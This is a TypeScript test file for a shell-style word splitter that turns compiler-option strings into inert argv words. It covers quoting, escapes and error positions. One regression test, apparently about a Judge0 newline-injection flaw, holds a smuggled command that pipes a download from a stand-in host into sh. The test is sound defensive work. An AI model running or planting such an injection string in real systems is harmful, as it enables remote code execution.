import assert from 'node:assert/strict'
import { test } from 'node:test'
import { splitWords, WordSplitError } from './word-split.ts'

test('splits on any run of blanks, tabs and newlines', () => {
  assert.deepEqual(splitWords('  -O2   -Wall\t-lm \n -o x  '), ['-O2', '-Wall', '-lm', '-o', 'x'])
  assert.deepEqual(splitWords(''), [])
  assert.deepEqual(splitWords(' \n\t '), [])
})

test('single quotes keep everything literal, including backslashes and double quotes', () => {
  assert.deepEqual(splitWords(`'a b' 'c\\d' '"e"'`), ['a b', 'c\\d', '"e"'])
})

test('double quotes honour only the shell escapes', () => {
  assert.deepEqual(splitWords(`"a \\"b\\" \\\\ \\$HOME \\n"`), ['a "b" \\ $HOME \\n'])
})

test('quoted pieces join with their neighbours; empty quotes make an empty word', () => {
  assert.deepEqual(splitWords(`-D'NAME=a b'"!"x '' ""`), ['-DNAME=a b!x', '', ''])
})

test('a backslash escapes the next character and backslash-newline continues the word', () => {
  assert.deepEqual(splitWords('a\\ b c\\\nd'), ['a b', 'cd'])
})

test('nothing is expanded: variables, globs, command substitution and operators stay literal', () => {
  assert.deepEqual(splitWords('$HOME * ~ $(id) `id` a;b | && > /tmp/x'), [
    '$HOME',
    '*',
    '~',
    '$(id)',
    '`id`',
    'a;b',
    '|',
    '&&',
    '>',
    '/tmp/x',
  ])
})

test("Judge0's newline injection in compiler_options becomes inert argv words", () => {
  // Judge0 CE ≤ 1.13.0 pasted compiler_options into a shell script; a newline started a new command.
  const words = splitWords('-O2\ntouch /tmp/pwned; curl evil.example | sh')
  assert.deepEqual(words, ['-O2', 'touch', '/tmp/pwned;', 'curl', 'evil.example', '|', 'sh'])
})

test('unterminated quotes and a trailing backslash are errors with a position', () => {
  assert.throws(
    () => splitWords(`a 'b`),
    (error: unknown) => {
      assert.ok(error instanceof WordSplitError)
      assert.equal(error.message, 'unterminated single quote at position 3')
      return true
    },
  )
  assert.throws(() => splitWords('"abc'), /unterminated double quote at position 1/)
  assert.throws(() => splitWords('abc\\'), /trailing backslash at position 4/)
})
